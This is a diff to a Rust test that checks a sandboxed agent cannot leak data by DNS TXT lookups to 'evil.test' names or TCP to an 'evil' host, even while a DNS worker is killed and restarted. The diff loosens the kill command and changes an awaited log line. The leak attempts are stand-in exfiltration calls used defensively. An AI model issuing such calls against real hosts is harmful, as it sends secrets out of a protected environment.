@@ -417,10 +417,11 @@ fn t83_a_killed_dns_worker_comes_back_and_nothing_opens_meanwhile() {
     let silent = guest.client(AGENT, &["dns", "8.8.8.8", "leak1.evil.test", "TXT"]);
     assert!(!silent.ok(), "nobody can have answered: {silent:?}");
     assert!(!guest.client(AGENT, &["tcp", &host("evil"), "443", "leak"]).ok());
-    guest.exec_root(&format!("kill -KILL {}", pid.unwrap())).expect("killing the worker");
+    // On a slow machine it has been found to hang by now, and was ended for that.
+    guest.exec_root(&format!("kill -KILL {} || true", pid.unwrap())).expect("killing the worker");
     let asked = std::thread::scope(|scope| {
         let asking = scope.spawn(|| guest.client(AGENT, &["dns", "1.1.1.1", "leak2.evil.test", "TXT"]));
-        guest.await_line("the worker ended").expect("a line about the worker's end");
+        guest.await_line("; starting it again").expect("a line about the worker's end");
         asking.join().unwrap()
     });
     assert!(!asked.out.contains("token"), "{asked:?}");
